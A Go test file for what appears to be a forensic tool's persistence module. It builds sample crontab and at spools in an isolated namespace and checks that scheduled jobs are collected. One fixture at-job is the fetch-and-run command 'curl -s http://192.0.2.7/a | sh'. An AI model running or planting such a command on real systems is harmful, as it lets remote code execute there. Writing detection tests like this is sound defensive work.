package persistence

import (
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/quaestor-engine/quaestor/modules/moduletest"
)

// spools has crontab(1) and at(1) write into spools of their own, in a mount
// namespace where those of this machine are covered, and copies them out. What
// crontab and atq list goes to standard output.
const spools = `set -e
mount -t tmpfs none /var/spool/cron
mkdir -p /var/spool/cron/crontabs /var/spool/cron/atjobs /var/spool/cron/atspool
touch /var/spool/cron/atjobs/.SEQ
chown root:crontab /var/spool/cron/crontabs; chmod 1730 /var/spool/cron/crontabs
chown -R daemon:daemon /var/spool/cron/atjobs /var/spool/cron/atspool
printf '%s\n' 'PATH=/bin' '*/5 1-3 * jan mon /bin/true --a % in' '@daily sh -c "x | y"' | crontab -u nobody -
cd /tmp
printf 'curl -s http://192.0.2.7/a | sh\necho done\n' | at -q c now + 2 hours 2>/dev/null || true
crontab -u nobody -l | grep -v '^#'
echo at
TZ=UTC LC_ALL=C atq
mkdir -p "$1/var/spool" "$1/etc"; echo root:x:0:0::/root:/bin/sh > "$1/etc/passwd"
cp -a /var/spool/cron "$1/var/spool/"
`

// TestAgainstCronAndAt reads what the system's own tools wrote.
func TestAgainstCronAndAt(t *testing.T) {
	for _, name := range []string{"unshare", "crontab", "at"} {
		if _, err := exec.LookPath(name); err != nil {
			t.Skipf("LEFT OUT: %s is not installed", name)
		}
	}
	if os.Geteuid() != 0 {
		t.Skip("LEFT OUT: only root has a spool of its own")
	}
	root := t.TempDir()
	cmd := exec.Command("unshare", "--mount", "sh", "-c", spools, "sh", root)
	cmd.Env = append(os.Environ(), "TZ=UTC")
	out, err := cmd.Output()
	if err != nil {
		t.Skipf("LEFT OUT: no spool of its own can be had here: %v", err)
	}
	crontab, atq, _ := strings.Cut(string(out), "at\n")
	var want []string
	for _, line := range strings.Split(strings.TrimSpace(crontab), "\n")[1:] { // the first sets PATH
		n := 5
		if line[0] == '@' {
			n = 1
		}
		f := strings.SplitN(line, " ", n+1)
		want = append(want, strings.Join(f[:n], " ")+" | "+f[n]+" | nobody | user")
	}
	for line := range strings.Lines(atq) { // 1	Mon Nov 30 10:22:00 2026 c root
		number, rest, _ := strings.Cut(strings.TrimSpace(line), "\t")
		at, err := time.Parse("Mon Jan _2 15:04:05 2006", strings.TrimSuffix(rest, " c root"))
		if err != nil || number != "1" {
			t.Fatalf("atq says %q", line)
		}
		want = append(want, at.Format(time.RFC3339)+" | curl -s http://192.0.2.7/a | sh\\necho done | root | at")
	}
	got, rec := moduletest.Rows(t, crons(), root, []string{"schedule", "command", "user", "kind"}, nil)
	if len(want) != 3 || !slices.Equal(got, want) || len(rec.Skips()) > 0 {
		t.Errorf("%q, %v\nnot %q", got, rec.Skips(), want)
	}
}
